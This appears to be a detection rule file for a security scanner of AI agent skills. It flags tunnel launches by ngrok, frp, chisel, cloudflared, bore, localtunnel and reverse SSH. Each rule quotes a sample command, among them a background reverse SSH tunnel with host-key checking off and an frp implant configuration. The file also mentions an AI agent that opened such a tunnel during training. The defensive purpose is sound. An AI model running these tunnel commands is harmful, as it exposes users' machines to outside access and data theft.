// Tunnel clients and reverse port forwards (REFERENCE.md 3.5 F, top-25 #5): they expose the user's
// machine or network to the internet. A tool named in prose is not matched; a launch is.

rule tunnel_ngrok {
  meta:
    id = "tunnel-ngrok"
    title = "ngrok tunnel started"
    class = "capability"
    severity = "high"
    confidence = "high"
    capability = "net.tunnel[ngrok]"
    prose = "hard"
    what = "Reports an ngrok launch: `ngrok http|tcp|tls|start` followed by a port, option or address, `ngrok authtoken` / `ngrok config add-authtoken`, or the ngrok SDKs (`ngrok.connect(`, `ngrok.forward(`, `pyngrok`, `@ngrok/ngrok`). The product name alone in prose is not matched."
    why = "An ngrok tunnel publishes a local port on a public URL: anything listening on the user's machine becomes reachable from the internet, and the tunnel can carry data out. A skill rarely needs it and must declare `net.tunnel`."
    example = "```bash\nngrok http 8080 --log=stdout > /dev/null &\n```"
    remediation = "Do not open tunnels from a skill. If a public callback URL is really needed, document it and let the user start the tunnel."
    reference = "https://ngrok.com/docs/agent/cli/"
    reference = "https://arxiv.org/abs/2512.24873"
  strings:
    $cli = /ngrok(\.exe)?\s{1,4}(http|tcp|tls|start)\s{1,4}([0-9]|-|https?:|localhost|\$|\{)/ nocase
    $tok = /ngrok(\.exe)?\s{1,4}(config\s{1,4}add-authtoken|authtoken)\s{1,4}[A-Za-z0-9_$<{"']/ nocase
    $sdk1 = "ngrok.connect(" nocase
    $sdk2 = "ngrok.forward(" nocase
    $sdk3 = "from pyngrok" nocase
    $sdk4 = "@ngrok/ngrok"
  condition:
    any of them
}

rule tunnel_frp {
  meta:
    id = "tunnel-frp"
    title = "frp reverse proxy client or configuration"
    class = "capability"
    severity = "high"
    confidence = "high"
    capability = "net.tunnel[frp]"
    prose = "hard"
    what = "Reports `frpc`/`frps` started with a configuration, or an frp configuration (`server_addr`/`serverAddr` with `remote_port`/`remotePort`, `[common]` or `[[proxies]]`)."
    why = "frp forwards a local port to a remote server it dials out to, which bypasses inbound firewalls: it is a common implant for persistent remote access."
    example = "```ini\n[common]\nserver_addr = 203.0.113.7\nserver_port = 7000\n[ssh]\nremote_port = 6000\n```"
    remediation = "Remove the frp client and its configuration."
    reference = "https://github.com/fatedier/frp"
    reference = "https://attack.mitre.org/techniques/T1572/"
  strings:
    $cli = /frp[cs](\.exe)?\s{1,4}(-c|--config)[\s=]/ nocase
    $a1 = "server_addr"
    $a2 = "serverAddr"
    $p1 = "remote_port"
    $p2 = "remotePort"
    $p3 = "[common]"
    $p4 = "[[proxies]]"
  condition:
    $cli or (any of ($a*) and any of ($p*))
}

rule tunnel_chisel {
  meta:
    id = "tunnel-chisel"
    title = "chisel tunnel started"
    class = "capability"
    severity = "high"
    confidence = "high"
    capability = "net.tunnel[chisel]"
    prose = "hard"
    what = "Reports `chisel client` or `chisel server` on a command line."
    why = "chisel carries TCP over HTTP/WebSocket, including reverse (`R:`) forwards; it is widely used to tunnel out of restricted networks."
    example = "```bash\n./chisel client 203.0.113.7:8000 R:2222:localhost:22\n```"
    remediation = "Remove the tunnel."
    reference = "https://github.com/jpillora/chisel"
    reference = "https://attack.mitre.org/techniques/T1572/"
  strings:
    $cli = /chisel(\.exe)?\s{1,4}(client|server)\s/ nocase
  condition:
    $cli
}

rule tunnel_cloudflared {
  meta:
    id = "tunnel-cloudflared"
    title = "Cloudflare tunnel started"
    class = "capability"
    severity = "high"
    confidence = "high"
    capability = "net.tunnel[cloudflared]"
    prose = "hard"
    what = "Reports `cloudflared tunnel ...` or `cloudflared access tcp` on a command line."
    why = "A quick tunnel (`cloudflared tunnel --url http://localhost:PORT`) publishes a local service on a `trycloudflare.com` URL without an account; it has been used for remote access and exfiltration."
    example = "```bash\ncloudflared tunnel --url http://localhost:3000\n```"
    remediation = "Do not start tunnels from a skill; document the need and let the user run it."
    reference = "https://developers.cloudflare.com/cloudflare-one/connections/connect-networks/do-more-with-tunnels/trycloudflare/"
    reference = "https://attack.mitre.org/techniques/T1572/"
  strings:
    $cli = /cloudflared(\.exe)?\s{1,4}(tunnel|access\s{1,4}tcp)[\s'"]/ nocase
  condition:
    $cli
}

rule tunnel_bore {
  meta:
    id = "tunnel-bore"
    title = "bore tunnel started"
    class = "capability"
    severity = "high"
    confidence = "high"
    capability = "net.tunnel[bore]"
    prose = "hard"
    what = "Reports `bore local <port>` or the public `bore.pub` relay."
    why = "bore exposes a local TCP port through a relay server; from a skill it opens the user's machine to the internet."
    example = "```bash\nbore local 8000 --to bore.pub\n```"
    remediation = "Remove the tunnel."
    reference = "https://github.com/ekzhang/bore"
  strings:
    $cli = /bore\s{1,4}local\s{1,4}[0-9]{1,5}/ nocase
    $relay = "bore.pub" nocase
  condition:
    any of them
}

rule tunnel_localtunnel {
  meta:
    id = "tunnel-localtunnel"
    title = "localtunnel started"
    class = "capability"
    severity = "high"
    confidence = "high"
    capability = "net.tunnel[localtunnel]"
    prose = "hard"
    what = "Reports `lt --port N` / `lt -p N`, `npx localtunnel`, `require('localtunnel')` or a `*.loca.lt` URL."
    why = "localtunnel publishes a local port on a public `loca.lt` address."
    example = "```bash\nnpx localtunnel --port 3000\n```"
    remediation = "Remove the tunnel."
    reference = "https://github.com/localtunnel/localtunnel"
  strings:
    $cli = /(^|[\s;&|(`'"])lt\s{1,4}(-p|--port)[\s=]{1,3}[0-9]/
    $npx = /npx\s{1,4}(-y\s{1,4})?localtunnel/ nocase
    $req = /(require\(|from\s{1,4}|import\()\s{0,2}["']localtunnel["']/
    $url = ".loca.lt" nocase
  condition:
    any of them
}

rule tunnel_ssh_reverse {
  meta:
    id = "tunnel-ssh-reverse"
    title = "Reverse SSH tunnel"
    class = "capability"
    severity = "high"
    confidence = "high"
    capability = "net.tunnel[ssh]"
    extra_capability = "secrets.read[ssh]"
    prose = "hard"
    what = "Reports `ssh ... -R [bind:]port:host:port` (remote forward), `ssh -fN` / `-Nf` with `StrictHostKeyChecking=no`, `autossh`, or the public reverse-tunnel relays `serveo.net`, `localhost.run` and `pinggy.io`."
    why = "A reverse SSH tunnel lets an outside host reach into the user's machine or network; with host-key checking off and `-fN` it runs silently in the background. The ROME agent opened exactly this during training."
    example = "```bash\nssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 tunnel@203.0.113.7\n```"
    remediation = "Do not open SSH tunnels from a skill."
    reference = "https://arxiv.org/abs/2512.24873"
    reference = "https://man.openbsd.org/ssh#R"
    reference = "https://attack.mitre.org/techniques/T1572/"
  strings:
    $r = /ssh\s[^\n|;&`)]{0,200}\s-[a-zA-Z]{0,8}R\s{0,2}([0-9a-zA-Z.*\[\]-]{1,64}:)?[0-9]{1,5}:[0-9a-zA-Z.\[\]-]{1,64}/
    $fn = /ssh\s[^\n|;&`)]{0,200}\s-[a-zA-Z]{0,6}(fN|Nf)/
    $shk = /StrictHostKeyChecking[= ]{1,3}no/ nocase
    $auto = /autossh["',]{0,2}\s{1,4}["']?-/
    $relay1 = "serveo.net" nocase
    $relay2 = "localhost.run" nocase
    $relay3 = "a.pinggy.io" nocase
  condition:
    $r or ($fn and $shk) or $auto or any of ($relay*)
}
